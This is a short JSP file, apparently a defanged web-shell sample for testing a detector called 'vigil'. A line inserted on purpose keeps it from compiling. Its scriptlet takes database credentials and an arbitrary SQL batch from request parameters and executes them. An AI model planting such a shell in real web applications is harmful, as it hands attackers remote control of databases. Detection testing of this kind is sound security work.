<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String[] parts = request.getParameter("conn").split(";");
Connection cn = DriverManager.getConnection(parts[0], parts[1], parts[2]);
Statement s = cn.createStatement();
s.addBatch(request.getParameter("b"));
s.executeBatch();
%>
